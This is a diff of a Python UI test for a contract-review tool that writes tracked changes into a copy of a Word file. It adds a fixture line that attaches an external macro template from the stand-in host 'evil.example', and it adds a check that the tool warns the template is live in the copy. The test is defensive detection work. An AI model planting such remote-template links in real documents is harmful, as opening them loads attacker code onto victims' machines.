@@ -174,6 +174,7 @@ async def test_what_is_shown_is_exported_with_its_marks_and_replaces_no_document
 async def test_the_playbooks_wording_is_written_into_a_copy_of_the_word_file(here, monkeypatch):
     document = Document()
     document.add_paragraph("7. Notice. Either party may end this agreement with 30 days' notice.")
+    document.part.relate_to("https://evil.example/t.dotm", "http://x/attachedTemplate", is_external=True)
     document.save(str(here / "theirs.docx"))
     text = document.paragraphs[0].text
     cited = Citation("contracts", "theirs.docx", None, None, "", text[11:], 11, len(text), 1)
@@ -197,6 +198,7 @@ async def test_the_playbooks_wording_is_written_into_a_copy_of_the_word_file(her
         await fill(pilot, "theirs.docx")
         await press(pilot, "enter", sees="is the file that is read")
         await fill(pilot, "marked.docx", sees="Wrote the tracked changes to marked.docx")
+        await see(pilot, "Live in the copy: attachedTemplate")
         made.file_state = "changed"
         await press(pilot, "t", sees="has changed since it was read")
     assert word_changes.text_of(word_changes.accepted((here / "marked.docx").read_bytes())) == [f"7. Notice. {words}"]
